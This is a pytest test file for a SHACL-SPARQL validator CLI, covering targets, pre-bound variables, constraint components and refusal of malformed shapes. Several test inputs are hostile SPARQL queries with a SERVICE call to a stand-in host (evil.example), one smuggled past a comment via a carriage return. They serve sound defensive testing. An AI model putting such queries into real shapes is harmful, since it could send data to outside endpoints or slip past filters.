"""SHACL-SPARQL in the default engine, from the spec's text
(https://www.w3.org/TR/shacl/#sparql-constraints, #sparql-constraint-components), and the
hostile shapes a steward may write: each is refused with one line and exit 2."""

from __future__ import annotations

import pytest
from click.testing import CliRunner
from rdflib import Graph, URIRef

from vrgraph.cli import main
from vrgraph.namespaces import SH

PREFIXES = """@prefix ex: <http://example.org/> .
@prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
"""
DATA = PREFIXES + """
ex:a a ex:Thing ; ex:p 1 ; ex:q ex:b .
ex:b a ex:Thing ; ex:p 5 .
ex:c ex:p 12 .
"""
EX = "http://example.org/"


def run(tmp_path, shapes: str, *args: str, data: str = DATA):
    d, s = tmp_path / "data.ttl", tmp_path / "shapes.ttl"
    d.write_text(data)
    s.write_text(PREFIXES + shapes)
    return CliRunner().invoke(main, ["validate", str(d), "--shapes", str(s), *args])


def results(tmp_path, shapes: str, data: str = DATA) -> set[tuple]:
    """(focus, path, value, component, source constraint) of each result, local names."""
    out = run(tmp_path, shapes, "--format", "turtle", data=data)
    assert out.exit_code in (0, 1) and isinstance(out.exception, (SystemExit, type(None))), \
        (out.output, out.exception)
    g = Graph().parse(data=out.output, format="turtle")
    name = lambda n: None if n is None else str(n).removeprefix(EX).removeprefix(str(SH))  # noqa: E731
    return {tuple(name(g.value(r, p)) for p in (SH.focusNode, SH.resultPath, SH.value,
                                                SH.sourceConstraintComponent))
            for r in g.objects(None, SH.result)}


BIG = """sh:sparql [ sh:select "SELECT $this ?value WHERE { $this <http://example.org/p> ?value FILTER(?value > 4) }" ] ."""


@pytest.mark.parametrize("target,expected", [
    ("sh:targetNode ex:b, ex:c", {"b", "c"}),
    ("sh:targetSubjectsOf ex:p", {"b", "c"}),
    ("sh:targetObjectsOf ex:q", {"b"}),
    ("sh:targetClass ex:Thing", {"b"}),
])
def test_a_sparql_constraint_runs_on_every_kind_of_target(tmp_path, target, expected):
    found = results(tmp_path, f"ex:S a sh:NodeShape ; {target} ; {BIG}")
    assert {f for f, *_ in found} == expected
    assert all(c == "SPARQLConstraintComponent" for *_, c in found)


def test_a_sparql_constraint_on_an_implicit_class_target(tmp_path):
    found = results(tmp_path, f"ex:Thing a sh:NodeShape, owl:Class ; {BIG}")
    assert found == {("b", None, "5", "SPARQLConstraintComponent")}


def test_sparql_compares_literals_that_the_store_keeps_exactly_by_value(tmp_path):
    data = PREFIXES + 'ex:a ex:p "3"^^xsd:byte . ex:b ex:p "1.50"^^xsd:decimal .'
    shapes = """ex:S a sh:NodeShape ; sh:targetSubjectsOf ex:p ; sh:sparql [ sh:select
        "SELECT $this ?value WHERE { $this <http://example.org/p> ?value FILTER(?value > 1) }" ] ."""
    assert {f for f, *_ in results(tmp_path, shapes, data)} == {"a", "b"}


def test_a_property_shape_substitutes_its_path_and_reports_it(tmp_path):
    shapes = """ex:S a sh:NodeShape ; sh:targetNode ex:a, ex:b ;
      sh:property [ sh:path ex:p ; sh:sparql [ sh:select
        "SELECT $this ?value WHERE { $this $PATH ?value FILTER(?value < 3) }" ] ] ."""
    assert results(tmp_path, shapes) == {("a", "p", "1", "SPARQLConstraintComponent")}


def test_this_is_pre_bound_even_where_no_pattern_binds_it(tmp_path):
    # $this appears only in FILTER NOT EXISTS: every focus node without ex:q is reported
    shapes = """ex:S a sh:NodeShape ; sh:targetNode ex:a, ex:b, ex:c ; sh:sparql [ sh:select
        "SELECT $this WHERE { FILTER NOT EXISTS { $this <http://example.org/q> ?x } }" ] ."""
    assert {f for f, *_ in results(tmp_path, shapes)} == {"b", "c"}


def test_current_shape_shapes_graph_and_prefixes_are_pre_bound(tmp_path):
    shapes = """ex:S a sh:NodeShape ; sh:targetSubjectsOf ex:p ; ex:limit 4 ;
      sh:sparql [ sh:prefixes ex:decl ; sh:select '''SELECT $this ?value WHERE {
        $this ex:p ?value . GRAPH $shapesGraph { $currentShape ex:limit ?limit }
        FILTER(?value > ?limit) }''' ] .
    ex:decl sh:declare [ sh:prefix "ex" ; sh:namespace "http://example.org/"^^xsd:anyURI ] ."""
    assert {f for f, *_ in results(tmp_path, shapes)} == {"b", "c"}


def test_messages_and_source_constraint_are_reported(tmp_path):
    shapes = """ex:S a sh:NodeShape ; sh:targetNode ex:c ; sh:sparql ex:C .
    ex:C sh:message "{$this} has {?value}" ; sh:select
      "SELECT $this ?value WHERE { $this <http://example.org/p> ?value }" ."""
    out = run(tmp_path, shapes, "--format", "turtle")
    g = Graph().parse(data=out.output, format="turtle")
    r = next(g.objects(None, SH.result))
    assert g.value(r, SH.sourceConstraint) == URIRef(EX + "C")
    assert str(g.value(r, SH.resultMessage)) == "http://example.org/c has 12"


COMPONENT = """ex:MaxValue a sh:ConstraintComponent ;
  sh:parameter [ sh:path ex:maxValue ] , [ sh:path ex:strictly ; sh:optional true ] ;
  sh:validator [ a sh:SPARQLAskValidator ; sh:message "{$value} is above {$maxValue}" ;
    sh:ask "ASK { FILTER(!BOUND($strictly) && $value <= $maxValue || $value < $maxValue) }" ] ;
  sh:nodeValidator [ a sh:SPARQLSelectValidator ; sh:select
    "SELECT $this WHERE { $this <http://example.org/p> ?v FILTER(?v > $maxValue) }" ] .
"""


def test_a_sparql_based_component_with_an_ask_validator_on_a_property_shape(tmp_path):
    shapes = COMPONENT + """ex:S a sh:NodeShape ; sh:targetNode ex:a, ex:b ;
      sh:property [ sh:path ex:p ; ex:maxValue 4 ] ."""
    assert results(tmp_path, shapes) == {("b", "p", "5", "MaxValue")}
    out = run(tmp_path, shapes)
    assert "5 is above 4" in out.output and out.exit_code == 1


def test_an_optional_parameter_is_pre_bound_when_given(tmp_path):
    shapes = COMPONENT + """ex:S a sh:NodeShape ; sh:targetNode ex:a, ex:b ;
      sh:property [ sh:path ex:p ; ex:maxValue 5 ; ex:strictly true ] ."""
    assert results(tmp_path, shapes) == {("b", "p", "5", "MaxValue")}


def test_a_node_shape_uses_the_node_validator(tmp_path):
    shapes = COMPONENT + "ex:S a sh:NodeShape ; sh:targetNode ex:a, ex:b, ex:c ; ex:maxValue 4 ."
    assert {f for f, *_ in results(tmp_path, shapes)} == {"b", "c"}


def test_a_targeted_shape_with_a_sparql_constraint_counts_behind_sh_node_too(tmp_path):
    shapes = f"""ex:S a sh:NodeShape ; sh:targetNode ex:b ; sh:node ex:Inner .
    ex:Inner a sh:NodeShape ; sh:targetNode ex:c ; {BIG}"""
    assert {(f, c) for f, _, _, c in results(tmp_path, shapes)} == {
        ("b", "NodeConstraintComponent"), ("c", "SPARQLConstraintComponent")}


def test_a_sparql_constraint_behind_sh_node_is_not_dropped(tmp_path):
    shapes = f"""ex:S a sh:NodeShape ; sh:targetNode ex:c ; sh:node ex:Inner .
    ex:Inner a sh:NodeShape ; {BIG}"""
    assert {(f, c) for f, _, _, c in results(tmp_path, shapes)} == {("c", "NodeConstraintComponent")}


@pytest.mark.parametrize("shapes,what", [
    ("ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:node ex:T . ex:T a sh:NodeShape ; sh:node ex:S .",
     "refers to itself"),
    ("ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:property [ sh:path ex:q ; sh:node ex:S ] .",
     "refers to itself"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
        "SELECT $this WHERE { SERVICE <http://evil.example/> { $this ?p ?o } }" ] .""", "SERVICE"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:node ex:Inner . ex:Inner sh:sparql [ sh:select
        "SELECT $this WHERE { SERVICE <http://evil.example/> { $this ?p ?o } }" ] .""", "SERVICE"),
    # a comment that ends at a carriage return, as Oxigraph reads it: SERVICE after it
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
        "SELECT $this WHERE { $this ?p ?o # c\\rSERVICE <http://evil.example/> { $this ?p ?o } }"
        ] .""", "SERVICE is refused"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
        "SELECT $this WHERE { $this ?p ?o MINUS { $this a ?c } }" ] .""", "MINUS"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
        "SELECT $this WHERE { VALUES ?x { 1 } $this ?p ?x }" ] .""", "VALUES"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
        "SELECT ?this WHERE { BIND(<http://example.org/b> AS ?this) }" ] .""", "binds $this"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
        "SELECT $this WHERE { $this ?p ?o { SELECT ?o WHERE { ?s ?q ?o } } }" ] .""",
     "does not return $this"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select "SELECT $this WHERE {" ] .""",
     "'{' is never closed"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select "SELECT $this WHERE { } }" ] .""",
     "closes nothing"),
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select "SELECT $this WHERE { $this ?p }" ] .""",
     "not valid SPARQL"),
    ("ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:property [ sh:path ex:S ; sh:sparql [ sh:select \"SELECT $this WHERE { $this $PATH ?v }\" ] ] . ex:T a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select \"SELECT $this WHERE { $this $PATH ?v }\" ] .",
     "not a property shape"),
    ("ex:S a sh:PropertyShape ; sh:targetNode ex:a ; sh:path _:l ; sh:minCount 1 . _:l rdf:first ex:p ; rdf:rest _:l .",
     "malformed sh:path list"),
    ("ex:S a sh:PropertyShape ; sh:targetNode ex:a ; sh:path (ex:p ex:q _:x) ; sh:minCount 1 . _:x rdf:first ex:p .",
     "malformed sh:path list"),
    ("ex:S a sh:PropertyShape ; sh:targetNode ex:a ; sh:path _:x ; sh:minCount 1 . _:x sh:inversePath _:x .",
     "sh:path nested deeper"),
    ("ex:S a sh:NodeShape ; sh:targetNode ex:a ; ex:maxValue 4 . ex:MaxValue a sh:ConstraintComponent ; sh:parameter [ sh:path ex:maxValue ] .",
     "has no validator"),
])
def test_hostile_shapes_give_one_clear_line_and_exit_2(tmp_path, shapes, what):
    shapes = "@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> .\n" + shapes
    for engine in ("sparql", "pyshacl"):
        out = run(tmp_path, shapes, "--engine", engine)
        assert out.exit_code == 2, (engine, out.output)
        assert what in out.output, (engine, out.output)
        assert "Traceback" not in out.output and len(out.output.strip().splitlines()) == 1


def test_the_suite_runner_reads_failure_tests_and_reports(tmp_path):
    """The runner of the W3C suite (also for its SHACL-SPARQL part): a test expecting
    sht:Failure passes when the shapes are refused, a report test when the reports match."""
    from vrgraph.validate import conformance

    (tmp_path / "manifest.ttl").write_text(PREFIXES + """
@prefix mf: <http://www.w3.org/2001/sw/DataAccess/tests/test-manifest#> .
@prefix sht: <http://www.w3.org/ns/shacl-test#> .
<> a mf:Manifest ; mf:entries ( <refused> <report> ) .
<refused> a sht:Validate ; mf:action [ sht:dataGraph <data.ttl> ; sht:shapesGraph <bad.ttl> ] ;
  mf:result sht:Failure .
<report> a sht:Validate ; mf:action [ sht:dataGraph <data.ttl> ; sht:shapesGraph <good.ttl> ] ;
  mf:result [ a sh:ValidationReport ; sh:conforms false ; sh:result [
    sh:focusNode ex:c ; sh:value 12 ; sh:resultSeverity sh:Violation ;
    sh:sourceShape ex:S ; sh:sourceConstraint ex:C ;
    sh:sourceConstraintComponent sh:SPARQLConstraintComponent ] ] .
""")
    (tmp_path / "data.ttl").write_text(DATA)
    (tmp_path / "bad.ttl").write_text(PREFIXES + """ex:S sh:targetNode ex:c ; sh:sparql [ sh:select
        "SELECT $this WHERE { SERVICE <http://evil.example/> { $this ?p ?o } }" ] .""")
    (tmp_path / "good.ttl").write_text(PREFIXES + """ex:S sh:targetNode ex:c ; sh:sparql ex:C .
        ex:C sh:select "SELECT $this ?value WHERE { $this <http://example.org/p> ?value }" .""")
    cases = conformance.cases(tmp_path / "manifest.ttl")
    assert [c.name.rsplit("/", 1)[-1] for c in cases] == ["refused", "report"]
    validator = conformance.vrgraph_validator("sparql")
    assert [conformance.passes(c, validator)[0] for c in cases] == [True, True]


# Each test below guards one rule of SHACL 5-6 that the W3C suite's SHACL-SPARQL part
# checks (CI has no copy of it): the shapes are written here from the spec's text.

def test_a_select_may_bind_path_and_other_result_variables_with_as(tmp_path):
    # only pre-bound variables are reserved (Appendix A); ?path is a result variable
    shapes = """ex:S a sh:NodeShape ; sh:targetNode ex:b ; sh:sparql [ sh:select
        "SELECT $this (<http://example.org/p> AS ?path) ?value WHERE { $this <http://example.org/p> ?value }" ] ."""
    assert results(tmp_path, shapes) == {("b", "p", "5", "SPARQLConstraintComponent")}


def test_prefixes_are_collected_through_owl_imports(tmp_path):
    # sh:prefixes/owl:imports*/sh:declare (5.2.1)
    shapes = """ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:prefixes ex:mine ;
        sh:select "SELECT $this ?value WHERE { $this x:q ?value }" ] .
    ex:mine owl:imports ex:theirs . ex:theirs owl:imports ex:mine ;
      sh:declare [ sh:prefix "x" ; sh:namespace "http://example.org/"^^xsd:anyURI ] ."""
    assert results(tmp_path, shapes) == {("a", None, "b", "SPARQLConstraintComponent")}


@pytest.mark.parametrize("where", [
    "BIND ($this AS ?that) FILTER (?that = <http://example.org/z>)",  # read by BIND first
    "{ { FILTER ($this = <http://example.org/z>) } FILTER bound($this) } FILTER (true)",
    "{ SELECT $this WHERE { FILTER ($this = <http://example.org/z>) } }",
])
def test_this_is_pre_bound_by_values_insertion_in_every_group(tmp_path, where):
    # Appendix A: $this is joined to every basic graph pattern, so a BIND, a bound() test
    # or a sub-query sees it, even for a focus node the data never mentions
    shapes = f"""ex:S a sh:NodeShape ; sh:targetNode ex:z, ex:a ; sh:sparql [ sh:select
        "SELECT $this WHERE {{ {where} }}" ] ."""
    assert results(tmp_path, shapes) == {("z", None, "z", "SPARQLConstraintComponent")}


def test_shapes_graph_and_current_shape_are_bound_inside_graph(tmp_path):
    shapes = """ex:S a sh:NodeShape ; sh:targetNode ex:z ; ex:limit 4 ; sh:sparql [ sh:select
        '''SELECT $this WHERE { FILTER bound($shapesGraph) GRAPH $shapesGraph {
            FILTER bound($currentShape) $currentShape <http://example.org/limit> 4 } }''' ] ."""
    assert results(tmp_path, shapes) == {("z", None, "z", "SPARQLConstraintComponent")}


def test_components_and_validators_are_found_by_shacl_type(tmp_path):
    # SHACL types include subclasses (rdfs:subClassOf*) of sh:ConstraintComponent and of
    # sh:SPARQLAskValidator
    shapes = """ex:MyComponent rdfs:subClassOf sh:ConstraintComponent .
    ex:MyAsk rdfs:subClassOf sh:SPARQLAskValidator .
    ex:Below a ex:MyComponent ; sh:parameter [ sh:path ex:below ] ;
      sh:validator [ a ex:MyAsk ; sh:ask "ASK { FILTER ($value < $below) }" ] .
    ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:property [ sh:path ex:p ; ex:below 1 ] ."""
    shapes = "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n" + shapes
    assert results(tmp_path, shapes) == {("a", "p", "1", "Below")}


@pytest.mark.parametrize("shapes,what", [
    # a sub-query must return $this by name: SELECT * returns only what its patterns bind
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
        "SELECT $this WHERE { { SELECT * WHERE { FILTER ($this = <http://example.org/a>) } } }" ] .""",
     "does not return $this"),
    # the values of sh:nodeValidator / sh:propertyValidator are SELECT-based (6.2.3.1)
    ("""ex:C a sh:ConstraintComponent ; sh:parameter [ sh:path ex:x ] ;
        sh:nodeValidator [ sh:ask "ASK { FILTER (true) }" ] .
        ex:S a sh:NodeShape ; sh:targetNode ex:a ; ex:x 1 .""", "must be a SELECT-based validator"),
    # the values of sh:validator are ASK-based (6.2.3.2)
    ("""ex:C a sh:ConstraintComponent ; sh:parameter [ sh:path ex:x ] ;
        sh:validator [ sh:select "SELECT $this WHERE { }" ] .
        ex:S a sh:NodeShape ; sh:targetNode ex:a ; ex:x 1 .""", "must be an ASK-based validator"),
    # a SELECT of a SPARQL-based constraint returns $this (5.2)
    ("""ex:S a sh:NodeShape ; sh:targetNode ex:a ; sh:sparql [ sh:select
        "SELECT ?value WHERE { ?value ?p ?o }" ] .""", "does not return $this in its SELECT"),
    # an ASK validator may not bind $value itself (Appendix A)
    ("""ex:C a sh:ConstraintComponent ; sh:parameter [ sh:path ex:x ] ;
        sh:validator [ sh:ask "ASK { BIND (1 AS ?value) }" ] .
        ex:S a sh:NodeShape ; sh:targetNode ex:a ; ex:x 1 .""", "binds $value"),
])
def test_shapes_breaking_the_sparql_rules_are_refused(tmp_path, shapes, what):
    out = run(tmp_path, shapes)
    assert out.exit_code == 2 and what in out.output, out.output
    assert "Traceback" not in out.output and len(out.output.strip().splitlines()) == 1
